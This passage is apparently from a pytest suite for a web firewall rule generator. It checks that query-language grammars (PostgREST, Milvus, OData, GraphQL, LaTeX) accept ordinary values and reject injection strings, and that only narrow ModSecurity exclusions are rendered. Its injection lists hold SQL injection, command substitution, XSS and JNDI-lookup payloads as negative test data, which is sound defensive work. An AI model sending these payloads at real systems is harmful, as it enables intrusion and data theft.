    "id,title:name,created_at,dept:departments(id,name)", "id,name,area_code,halls!inner(name)", "*",
    '"matter_id","title","content","contact","area_code"', "created_at.desc.nullslast", "updated_at.desc,id.asc",
    "(age.lt.18,age.gt.60)", "(status.eq.active,and(area_code.eq.330100,name.ilike.*医保*))", "count()",
    "id,data->address->>city,amount::text", "(updated_at.gte.2027-02-18,title.ilike.*不动产 登记*)",
    "(status.in.(active,pending),deleted_at.is.null)", '(name.eq."a,b",age.not.is.null)', "id,name,dept(name)",
]
POSTGREST_INJECTIONS = [  # each must fall back to every rule
    "id,name' union select 1--", "(age.lt.18);drop table x", "id,(select password from users)", "id,pg_sleep(5)",
    "a.eq.1 or 1=1", "(a.eq.1)--", "id,name/*x*/", "id,<script>alert(1)</script>", "id,name|id", "id%27",
    "(a.eq.1)#", "id\nname", 'id,"a\'b"', "id,name>1", "id;ls", "$(id)", "x`id`", "id,name union all select",
    "id,benchmark(1000000,md5(1))", "(a.eq.${jndi:ldap://x})", "id,@@version", 'id,"x\\"', "id,name&id",
]

MILVUS = [  # Milvus's filter expressions, as pymilvus and the RESTful API v2 clients send them
    # corpus AJ tuning part, stop 39: vector-db-rest milvus-query (10120, 10260, 10660, 10620 at PL2)
    'doc_id in ["dfb7473f1467d43a", "8b4b69ee35273915"] and chunk_index >= 0', 'color like "red%"',
    'product["model"] == "JSN-087"', 'json_contains(tags, "sale")', "age > {age} and city in {city}",
    'not (region == "南昌市") && publish_year <= 2027', "array_length(chunks) > 3", "price * 2 > 100",
    'doc_id not in ["x"]', "title is not null", 'text_match(text, "行政 复议")', "id >= 0", 'title like "关于%"',
    'array_contains_any(tags, ["医保", "社保"]) || score > 0.85',
]
MILVUS_INJECTIONS = [  # each must fall back to every rule
    "x == 1 or sleep(5)", "x == 'a'", "x == 1; drop table t", "x == 1 -- c", "x == 1 /* c */",
    "x == 1 union select 1", "x == $(id)", "x == `id`", "x | id", "x & id", "x == %27", "x == ${jndi:x}",
    "x == @@version", "version()", 'x == "a\\" or 1"', "x == 1\nunion select 1", "x == 1 order by 1",
    "x == benchmark(1,1)", "x = 1", "{x", 'doc_id in ["a"] or 1=1', "x == 1 # c", "x == user()",
    "x in (select password from users)",
]

# language: (values its clients send, which must be the grammar; injections, which must fall back to every rule)
TABLES = {"filter-sql": (FILTERS, INJECTIONS), "cql": (CQL, CQL_INJECTIONS), "graphql": (GRAPHQL, GRAPHQL_INJECTIONS),
          "report-formula": (REPORT_FORMULAS, REPORT_FORMULA_INJECTIONS), "sdp": (SDP, SDP_INJECTIONS),
          "odata": (ODATA, ODATA_INJECTIONS), "latex": (LATEX, LATEX_INJECTIONS), "hj212": (HJ212, HJ212_INJECTIONS),
          "patent-search": (PATENT, PATENT_INJECTIONS), "boolean-expression": (BOOLEAN, BOOLEAN_INJECTIONS),
          "formula": (FORMULAS, FORMULA_INJECTIONS), "sheet-formula": (SHEET_FORMULAS, SHEET_FORMULA_INJECTIONS),
          "condition": (CONDITIONS, CONDITION_INJECTIONS), "postgrest": (POSTGREST, POSTGREST_INJECTIONS),
          "milvus": (MILVUS, MILVUS_INJECTIONS)}


@pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (ok, _) in TABLES.items() for v in ok])
def test_an_ordinary_value_is_its_language(language: str, value: str) -> None:
    assert matches(language, value)


@pytest.mark.parametrize(("language", "value"), [(lang, v) for lang, (_, bad) in TABLES.items() for v in bad])
def test_an_injection_is_not_the_language(language: str, value: str) -> None:
    assert not matches(language, value)


def test_a_report_formula_field_leaves_the_sql_rules_and_933161_only() -> None:
    ff = FilterField(("/lwzb/api/form/explain",), ("ARGS:formula",), "report-formula", "审核公式")
    lines = filter_fields.render(ff, 12101, "cms/x")
    last = checked_then_removed(lines, "report-formula")
    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:formula", "ctl:ruleRemoveTargetById=933161;ARGS:formula",
                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/933161;ARGS:formula"]
    assert not any(t in last for t in ("attack-php", "attack-xss", "attack-rce", "ruleRemoveById=", "ruleRemoveByTag="))

@pytest.mark.parametrize(("language", "extra"), [("boolean-expression", ()),
                                                   ("formula", (932140, 932200, 933161)),
                                                   ("sheet-formula", (933161,)), ("condition", ()),
                                                   ("postgrest", ())])
def test_boolean_and_formula_fields_leave_the_sql_rules_and_nothing_more(language: str, extra: tuple[int, ...]) -> None:
    ff = FilterField(("/rules/save",), ("ARGS:json.expr",), language, "x")
    lines = filter_fields.render(ff, 12101, "site/x")
    last = checked_then_removed(lines, language)
    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:json.expr"] + [
        x for rid in extra for x in (f"ctl:ruleRemoveTargetById={rid};ARGS:json.expr",
                                     f"ctl:ruleRemoveTargetByTag=sitegroup/replaces/{rid};ARGS:json.expr")]
    # '|' '&&' '!' are the shell's too: the command rules keep reading a boolean expression, and '&' a sheet formula.
    assert language == "formula" or "932" not in last
    assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))


def test_an_odata_field_leaves_the_sql_rules_932100_and_932105_only() -> None:
    ff = FilterField(("/odata/",), ("ARGS:$filter", "ARGS:$expand"), "odata", "OData")
    lines = filter_fields.render(ff, 12101, "cms/x")
    assert lines[-2].startswith('SecRule TX:sg_filter_12101_ARGS:$expand "@eq 1" ')
    last = checked_then_removed(lines, "odata")
    assert last.startswith('    SecRule &ARGS:$expand "@eq 1" ')
    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:$expand", "ctl:ruleRemoveTargetById=932100;ARGS:$expand",
                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/932100;ARGS:$expand",
                   "ctl:ruleRemoveTargetById=932105;ARGS:$expand",
                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/932105;ARGS:$expand"]
    assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))


def test_a_latex_field_leaves_the_sql_rules_920272_and_933210_only() -> None:
    ff = FilterField(("/kjxm/api/sbs/formula/save",), ("ARGS:latex",), "latex", "LaTeX")
    lines = filter_fields.render(ff, 12101, "cms/x")
    last = checked_then_removed(lines, "latex")
    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
    assert ctl == ["ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:latex",
                   "ctl:ruleRemoveTargetById=920272;ARGS:latex",
                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/920272;ARGS:latex",
                   "ctl:ruleRemoveTargetById=933210;ARGS:latex",
                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/933210;ARGS:latex",
                   "ctl:ruleRemoveTargetById=920272;REQUEST_BODY",
                   "ctl:ruleRemoveTargetByTag=sitegroup/replaces/920272;REQUEST_BODY"]
    assert not any(t in last for t in ("attack-rce", "attack-xss", "attack-php", "ruleRemoveById=", "ruleRemoveByTag="))


@pytest.mark.parametrize("language", TABLES)
def test_pcre2_reads_the_table_as_python_does(language: str) -> None:
    # The tables above run Python's re; the tier runs PCRE2 with libmodsecurity's options. Same verdicts.
    pattern = filter_fields.LANGUAGES[language].encode()
    values = TABLES[language][0] + TABLES[language][1]
    for value in values:
        assert pcre2_matches(pattern, value.encode()) is matches(language, value), value




def pcre2_matches(pattern: bytes, subject: bytes) -> bool:
    lib = _pcre2()
    lib.pcre2_match_data_create_from_pattern_8.restype = ctypes.c_void_p
    lib.pcre2_match_data_create_from_pattern_8.argtypes = [ctypes.c_void_p, ctypes.c_void_p]
    lib.pcre2_match_8.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_size_t, ctypes.c_size_t,
                                  ctypes.c_uint32, ctypes.c_void_p, ctypes.c_void_p]
    lib.pcre2_match_data_free_8.argtypes = [ctypes.c_void_p]
    err, off = ctypes.c_int(), ctypes.c_size_t()
    code = lib.pcre2_compile_8(pattern, len(pattern), PCRE2_DOTALL | PCRE2_MULTILINE, ctypes.byref(err),
                               ctypes.byref(off), None)
    assert code, compile_error(lib, pattern)
    md = lib.pcre2_match_data_create_from_pattern_8(code, None)
    try:
        rc = lib.pcre2_match_8(code, subject, len(subject), 0, 0, md, None)
    finally:
        lib.pcre2_match_data_free_8(md)
        lib.pcre2_code_free_8(code)
    assert rc >= -1, f"PCRE2 error {rc}"  # -1 is "no match"; below it, an error (match limit, bad option)
    return rc >= 0


def test_a_statement_word_as_a_field_name_falls_back_to_every_rule() -> None:
    # "order" could be a field; the grammar gives it up rather than decide: the value gets every rule.
    assert not matches("filter-sql", "order = 3") and matches("filter-sql", "sort_order = 3")


def test_the_rendered_rules_flag_the_path_check_every_target_once_then_remove_per_target() -> None:
    ff = FilterField(("/geoserver/",), ("ARGS:CQL_FILTER", "ARGS:cql_filter"), "filter-sql", "ECQL")
    lines = filter_fields.render(ff, 12101, "cms/geoserver")
    assert len([x for x in lines if x.startswith("SecRule")]) == filter_fields.rule_count(ff) == 4
    assert "setvar:tx.sg_filter_12101=1" in lines[1] and "phase:1" in lines[1]
    # One grammar, compiled once, for both targets, on a flagged request only; it marks what it matched.
    assert lines[2].startswith('SecRule TX:sg_filter_12101 "@eq 1" "id:12102,phase:2,') and lines[2].endswith(',chain"')
    assert lines[3] == (f'    SecRule ARGS:CQL_FILTER|ARGS:cql_filter "@rx {filter_fields.LANGUAGES["filter-sql"]}" '
                        '"t:none,setvar:\'tx.sg_filter_12101_%{MATCHED_VAR_NAME}=1\'"')
    assert sum(filter_fields.LANGUAGES["filter-sql"] in x for x in lines) == 1
    for n, var in ((4, "ARGS:CQL_FILTER"), (6, "ARGS:cql_filter")):
        assert lines[n].startswith(f'SecRule TX:sg_filter_12101_{var} "@eq 1" "id:1210{n // 2 + 1},phase:2,')
        assert lines[n + 1] == f'    SecRule &{var} "@eq 1" "t:none,ctl:ruleRemoveTargetByTag=attack-sqli;{var}"'


def checked_then_removed(lines: list[str], language: str) -> str:
    """The field's one grammar check reads the language; the last line (the last target's removals) is returned."""
    [check] = [x for x in lines if f' "@rx {filter_fields.LANGUAGES[language]}" ' in x]
    assert check.startswith("    SecRule ARGS:") and check.endswith("_%{MATCHED_VAR_NAME}=1'\"")
    assert filter_fields.LANGUAGES[language] not in lines[-1]
    return lines[-1]


def test_a_graphql_field_leaves_the_sql_and_command_rules_and_nothing_else() -> None:
    ff = FilterField(("/cms/graphql",), ("ARGS:json.query",), "graphql", "GraphQL")
    lines = filter_fields.render(ff, 12101, "cms/x")
    last = checked_then_removed(lines, "graphql")
    ctl = last.rsplit('"t:none,', 1)[1].rstrip('"').split(",")
    assert ctl[0] == "ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:json.query"
    for rid in (932100, 932105, 932106, 932110, 932115, 932150, 932200):
        assert f"ctl:ruleRemoveTargetById={rid};ARGS:json.query" in ctl  # and the platform's copy, if any:
        assert f"ctl:ruleRemoveTargetByTag=sitegroup/replaces/{rid};ARGS:json.query" in ctl
    assert len(ctl) == 1 + 2 * 7
    # Never a whole family beyond SQL: attack-rce is also Java (944xxx) and Node.js (934100); XSS is never touched.
    assert not any(t in last for t in ("attack-rce", "attack-xss", "ruleRemoveById=", "ruleRemoveByTag="))


@pytest.mark.parametrize("target", ["ARGS", "REQUEST_HEADERS:Referer", "ARGS_NAMES:where"])
def test_a_filter_field_is_one_named_argument(target: str) -> None:
    with pytest.raises(WafRenderError):
        filter_fields.render(FilterField(("/gis/",), (target,), "filter-sql", "x"), 12101, "cms/x")


_PKG = """name: {name}
description: x
sources: [x]
filter_fields:
  - paths: [{path}]
    targets: [{target}]
    language: {language}
    reason: x
must_pass: [{{method: GET, path: /}}]
must_block: [{{method: GET, path: /}}]
"""


@pytest.mark.parametrize("path,target,language,field", [
    ("/", "ARGS:where", "filter-sql", "filter_fields.0.paths"),  # the whole site
    ("/gis/", "ARGS", "filter-sql", "filter_fields.0.targets"),  # a whole collection
    ("/gis/", "ARGS:where", "sql", "filter_fields.0.language"),  # no such grammar
])
def test_the_package_schema_refuses_a_broad_or_unknown_filter_field(tmp_path: Path, path: str, target: str,
                                                                    language: str, field: str) -> None:
    (tmp_path / "gis.yaml").write_text(_PKG.format(name="gis", path=path, target=target, language=language),
                                       encoding="utf-8")
    found, issues = cms.load(tmp_path)
    assert not found and issues, issues
    shown = issues[0].field.replace("[", ".").replace("]", "")  # filter_fields[0].paths[0] -> filter_fields.0.paths.0
    assert shown.startswith(field) and issues[0].line > 1 and issues[0].fix, issues
